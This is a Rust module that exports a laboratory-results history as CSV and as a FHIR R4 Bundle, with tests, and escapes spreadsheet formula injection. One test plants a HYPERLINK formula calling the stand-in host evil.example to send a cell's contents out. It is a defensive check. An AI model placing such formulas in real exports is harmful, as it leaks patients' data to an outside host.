//! Exports of a normalised history, from the same data the screen shows.
//!
//! - [`csv`]: one line per result (per source), RFC 4180, UTF-8, for spreadsheets and audits;
//!   a cell a spreadsheet would run as a formula is written as text (`'=…`), plain numbers as
//!   they are.
//! - [`fhir_bundle`]: a FHIR R4 `Bundle` (type `collection`) of laboratory `Observation`s.

use serde_json::{Value as Json, json};

use crate::cda::oid;
use crate::normalise::{History, Point, PointStatus};

/// Whether a cell is a plain decimal number (`-2.5`, `+3`, `12`): data a spreadsheet reads as a
/// number, never as a formula, so it is written as it is (a base excess of `-2.5` stays a number).
fn is_plain_number(value: &str) -> bool {
    let digits = value.strip_prefix(['-', '+']).unwrap_or(value);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
    !int.is_empty() && !frac.is_empty() && int.bytes().all(|b| b.is_ascii_digit()) && frac.bytes().all(|b| b.is_ascii_digit())
}

/// Whether a spreadsheet would run this cell as a formula (OWASP "CSV injection"): it begins
/// with `=`, `+`, `-`, `@`, a tab or a carriage return, and is not a plain number. Laboratory
/// names, labels and text results come from the documents, that is from outside.
fn is_formula_like(value: &str) -> bool {
    value.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(value)
}

fn field(out: &mut String, value: &str) {
    if is_formula_like(value) {
        // OWASP's rule: a leading single quote makes the cell text, and the cell is quoted.
        out.push_str("\"'");
        out.push_str(&value.replace('"', "\"\""));
        out.push('"');
    } else if value.contains([',', '"', '\n', '\r']) {
        out.push('"');
        out.push_str(&value.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(value);
    }
}

fn line(out: &mut String, fields: &[&str]) {
    for (i, f) in fields.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        field(out, f);
    }
    out.push_str("\r\n");
}

const HEADER: [&str; 22] = [
    "analyte",
    "name_fr",
    "name_en",
    "chapter",
    "time",
    "status",
    "comparator",
    "value",
    "display",
    "unit",
    "text",
    "flag",
    "flag_computed",
    "reference_low",
    "reference_high",
    "laboratory",
    "derived",
    "document",
    "code",
    "original_value",
    "original_unit",
    "conversion",
];

/// The cumulative table as CSV: one line per source of every point (a point seen in two
/// documents gives two lines with the same value), series first, then other results.
pub fn csv(history: &History) -> String {
    let mut out = String::new();
    line(&mut out, &HEADER);
    let mut point_lines = |analyte: &str, name_fr: &str, name_en: &str, chapter: &str, p: &Point| {
        let status = match p.status {
            PointStatus::Completed => "completed",
            PointStatus::NotPerformed => "not_performed",
        };
        for s in &p.sources {
            let time = p.time.map(|t| t.to_string()).unwrap_or_default();
            let conversion = s.rule.as_ref().map(ToString::to_string).or_else(|| s.not_converted.clone()).unwrap_or_default();
            line(
                &mut out,
                &[
                    analyte,
                    name_fr,
                    name_en,
                    chapter,
                    &time,
                    status,
                    p.comparator.map(|c| c.ascii()).unwrap_or(""),
                    p.value.as_ref().map(|v| v.as_str()).unwrap_or(""),
                    p.display.as_deref().unwrap_or(""),
                    p.unit.as_deref().unwrap_or(""),
                    p.text.as_deref().unwrap_or(""),
                    p.flag.as_ref().map(|f| &*f.code).unwrap_or(""),
                    p.flag.as_ref().map(|f| if f.computed { "true" } else { "false" }).unwrap_or(""),
                    p.reference_low.as_ref().map(|v| v.as_str()).unwrap_or(""),
                    p.reference_high.as_ref().map(|v| v.as_str()).unwrap_or(""),
                    p.laboratory.as_deref().unwrap_or(""),
                    if p.derived { "true" } else { "false" },
                    &s.document,
                    s.code.as_deref().unwrap_or(""),
                    s.original_value.as_deref().unwrap_or(""),
                    s.original_unit.as_deref().unwrap_or(""),
                    &conversion,
                ],
            );
        }
    };
    for s in &history.series {
        for p in &s.points {
            point_lines(&s.analyte, &s.name_fr, &s.name_en, &s.chapter, p);
        }
    }
    for o in &history.other_results {
        for p in &o.points {
            point_lines("", o.label.as_deref().unwrap_or(""), o.label.as_deref().unwrap_or(""), "other", p);
        }
    }
    out
}

/// The history as a FHIR R4 Bundle of Observations: one per measured point (values Bioviewer
/// derived are left out: they are not laboratory observations), with the LOINC (or local)
/// code, the value in the display unit as a UCUM Quantity (comparator kept), the laboratory's
/// range and interpretation, the collection time and the performing laboratory. Results not
/// performed carry `dataAbsentReason` and no value.
pub fn fhir_bundle(history: &History) -> Json {
    let subject = history.patient.as_ref().map(|p| json!({"identifier": {"system": format!("urn:oid:{}", p.ins_root), "value": p.ins}}));
    let mut entries = Vec::new();
    let mut observation = |p: &Point, label: &str| {
        if p.derived {
            return;
        }
        let source = p.sources.first();
        let code = match (source.and_then(|s| s.code.as_deref()), source.and_then(|s| s.code_system.as_deref())) {
            (Some(c), Some(system)) if system == oid::LOINC => {
                json!({"coding": [{"system": "http://loinc.org", "code": c}], "text": label})
            }
            (Some(c), Some(system)) => json!({"coding": [{"system": format!("urn:oid:{system}"), "code": c}], "text": label}),
            _ => json!({"text": label}),
        };
        let mut o = json!({
            "resourceType": "Observation",
            "status": "final",
            "category": [{"coding": [{"system": "http://terminology.hl7.org/CodeSystem/observation-category", "code": "laboratory"}]}],
            "code": code,
        });
        let map = o.as_object_mut().expect("an object");
        if let Some(subject) = &subject {
            map.insert("subject".into(), subject.clone());
        }
        if let Some(t) = p.time {
            map.insert("effectiveDateTime".into(), json!(t.to_string()));
        }
        if let Some(lab) = &p.laboratory {
            map.insert("performer".into(), json!([{"display": lab.to_string()}]));
        }
        match (p.status, &p.value, &p.text) {
            (PointStatus::NotPerformed, _, _) => {
                map.insert(
                    "dataAbsentReason".into(),
                    json!({"coding": [{"system": "http://terminology.hl7.org/CodeSystem/data-absent-reason", "code": "not-performed"}]}),
                );
            }
            (_, Some(value), _) => {
                let mut quantity = json!({"value": value.to_f64()});
                let q = quantity.as_object_mut().expect("an object");
                if let Some(unit) = &p.unit {
                    q.insert("unit".into(), json!(unit.to_string()));
                    q.insert("system".into(), json!("http://unitsofmeasure.org"));
                    q.insert("code".into(), json!(unit.to_string()));
                }
                if let Some(c) = p.comparator {
                    q.insert("comparator".into(), json!(c.ascii()));
                }
                map.insert("valueQuantity".into(), quantity);
            }
            (_, None, Some(text)) => {
                map.insert("valueString".into(), json!(text));
            }
            _ => {}
        }
        if let Some(flag) = &p.flag {
            map.insert(
                "interpretation".into(),
                json!([{"coding": [{"system": "http://terminology.hl7.org/CodeSystem/v3-ObservationInterpretation", "code": flag.code.to_string()}]}]),
            );
        }
        if p.reference_low.is_some() || p.reference_high.is_some() {
            let mut range = serde_json::Map::new();
            let unit = p.unit.as_deref().unwrap_or("");
            for (key, bound) in [("low", &p.reference_low), ("high", &p.reference_high)] {
                if let Some(b) = bound {
                    range.insert(
                        key.into(),
                        json!({"value": b.to_f64(), "unit": unit, "system": "http://unitsofmeasure.org", "code": unit}),
                    );
                }
            }
            map.insert("referenceRange".into(), json!([range]));
        }
        entries.push(json!({"resource": o}));
    };
    for s in &history.series {
        for p in &s.points {
            observation(p, &s.name_en);
        }
    }
    for o in &history.other_results {
        for p in &o.points {
            observation(p, o.label.as_deref().unwrap_or(""));
        }
    }
    json!({"resourceType": "Bundle", "type": "collection", "entry": entries})
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::catalogue::{Catalogue, EMBEDDED_TRANSCODING, Transcoding};
    use crate::normalise::{InputDocument, Options, Provenance, normalise};

    #[test]
    fn one_line_per_source_with_originals_and_quoting() {
        let reports = [
            crate::cda::tests::corpus("BIO-CR-BIO_2024.01_TSH_1.xml"),
            crate::cda::tests::corpus("BIO-CR-BIO_2024.01_TSH_2.xml"),
            crate::cda::tests::corpus("BIO-CR-BIO_2024.01_CRP_non_LOINC.xml"),
        ];
        let catalogue = Catalogue::embedded();
        let transcoding = Transcoding::from_tsv(EMBEDDED_TRANSCODING, &catalogue).unwrap();
        let inputs: Vec<_> = reports.iter().enumerate().map(|(i, r)| InputDocument { id: format!("doc, {i}"), report: Ok(r), provenance: Provenance::Operator }).collect();
        let history = normalise(&inputs, &catalogue, &transcoding, &Options::default());
        let text = csv(&history);
        let lines: Vec<&str> = text.split("\r\n").filter(|l| !l.is_empty()).collect();
        let sources: usize = history.series.iter().flat_map(|s| &s.points).map(|p| p.sources.len()).sum::<usize>()
            + history.other_results.iter().flat_map(|o| &o.points).map(|p| p.sources.len()).sum::<usize>();
        assert_eq!(lines.len(), 1 + sources);
        assert!(lines[0].starts_with("analyte,name_fr,name_en,chapter,time"));
        assert!(text.contains("\"doc, 0\""), "a comma in a field is quoted");
        let crp = lines.iter().find(|l| l.starts_with("crp,")).unwrap();
        assert!(crp.contains(",<=,1.0,") && crp.contains(",mg/L,"), "{crp}");
        let tsh: Vec<_> = lines.iter().filter(|l| l.starts_with("tsh,")).collect();
        assert_eq!(tsh.len(), 2);
    }

    #[test]
    fn csv_injection_a_hyperlink_formula_from_a_document_is_written_as_text() {
        use crate::cda::model::{Code, Quantity, Value};
        const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Cliquez\")";
        let mut report = crate::demo::generate(1, 1, 7, 20_000).remove(0).report;
        report.header.laboratory.as_mut().expect("a laboratory").name = Some(FORMULA.to_string());
        // A measured value below zero (a base excess, say) is data, not a formula.
        let negative = report.observations.iter().position(|o| matches!(o.value, Some(Value::Quantity(_)))).expect("a quantity");
        if let Some(Value::Quantity(q)) = &mut report.observations[negative].value {
            *q = Quantity { value: crate::cda::model::Decimal::parse("-2.5").unwrap(), unit: q.unit.clone() };
        }
        // A text result, and the label of a result mapped to no analyte, both formulas.
        let mut text = report.observations[negative].clone();
        text.code = Code { code: Some("X-LOCAL-1".into()), system: Some("1.2.250.1.2.3.4".into()), display: Some(format!("@SUM(1+1){FORMULA}")), ..Code::default() };
        text.value = Some(Value::Text { text: format!("+{FORMULA}") });
        text.index = report.observations.len();
        text.previous_of = None;
        report.observations.push(text);
        let written = crate::cda::writer::write_cr_bio(&report);
        let parsed = crate::cda::parse(written.as_bytes()).expect("the generated document reads back");
        let catalogue = Catalogue::embedded();
        let transcoding = Transcoding::from_tsv(EMBEDDED_TRANSCODING, &catalogue).unwrap();
        let history = normalise(&[InputDocument { id: "d0".into(), report: Ok(&parsed), provenance: Provenance::Operator }], &catalogue, &transcoding, &Options::default());
        let out = csv(&history);
        // Every cell: none a spreadsheet would run.
        let mut cells = Vec::new();
        for line in out.split("\r\n").filter(|l| !l.is_empty()) {
            let (mut cell, mut quoted, mut chars) = (String::new(), false, line.chars().peekable());
            while let Some(c) = chars.next() {
                match c {
                    '"' if quoted && chars.peek() == Some(&'"') => {
                        chars.next();
                        cell.push('"');
                    }
                    '"' => quoted = !quoted,
                    ',' if !quoted => cells.push(std::mem::take(&mut cell)),
                    c => cell.push(c),
                }
            }
            cells.push(cell);
        }
        for cell in &cells {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || is_plain_number(cell), "a formula cell: {cell}");
        }
        assert!(cells.iter().any(|c| c == &format!("'{FORMULA}")), "the laboratory kept, as text: {out}");
        assert!(cells.iter().any(|c| c == &format!("'+{FORMULA}")), "the text result kept, as text");
        assert!(cells.iter().any(|c| c.starts_with("'@SUM(1+1)")), "the label kept, as text");
        assert!(out.contains(",-2.5,"), "a negative number stays a number");
        assert!(!is_formula_like("-2.5") && !is_formula_like("+3") && is_formula_like("-2+3") && is_formula_like("-") && is_formula_like("\tx"));
    }
}

#[cfg(test)]
mod fhir_tests {
    use super::*;
    use crate::catalogue::{Catalogue, EMBEDDED_TRANSCODING, Transcoding};
    use crate::normalise::{InputDocument, Options, Provenance, normalise};

    #[test]
    fn observations_carry_loinc_ucum_ranges_and_comparators() {
        let reports =
            [crate::cda::tests::corpus("BIO-CR-BIO_2024.01_TSH_1.xml"), crate::cda::tests::corpus("BIO-CR-BIO_2024.01_CRP_non_LOINC.xml")];
        let catalogue = Catalogue::embedded();
        let transcoding = Transcoding::from_tsv(EMBEDDED_TRANSCODING, &catalogue).unwrap();
        let inputs: Vec<_> = reports.iter().enumerate().map(|(i, r)| InputDocument { id: format!("d{i}"), report: Ok(r), provenance: Provenance::Operator }).collect();
        let history = normalise(&inputs, &catalogue, &transcoding, &Options::default());
        let bundle = fhir_bundle(&history);
        assert_eq!(bundle["resourceType"], "Bundle");
        let entries = bundle["entry"].as_array().unwrap();
        let measured = history.series.iter().flat_map(|s| &s.points).filter(|p| !p.derived).count()
            + history.other_results.iter().map(|o| o.points.len()).sum::<usize>();
        assert_eq!(entries.len(), measured);
        let tsh = entries.iter().map(|e| &e["resource"]).find(|r| r["code"]["coding"][0]["code"] == "3016-3").unwrap();
        assert_eq!(tsh["code"]["coding"][0]["system"], "http://loinc.org");
        assert_eq!(tsh["valueQuantity"]["code"], "m[IU]/L");
        assert_eq!(tsh["valueQuantity"]["system"], "http://unitsofmeasure.org");
        assert_eq!(tsh["referenceRange"][0]["high"]["value"], 4.2);
        assert_eq!(tsh["subject"]["identifier"]["value"], "279035121518989");
        assert_eq!(tsh["performer"][0]["display"], "Laboratoire des charmes");
        let crp = entries.iter().map(|e| &e["resource"]).find(|r| r["valueQuantity"]["comparator"] == "<=").unwrap();
        assert_eq!(crp["code"]["coding"][0]["system"], "urn:oid:1.2.250.1.2.3.4", "a local code keeps its system");
    }
}
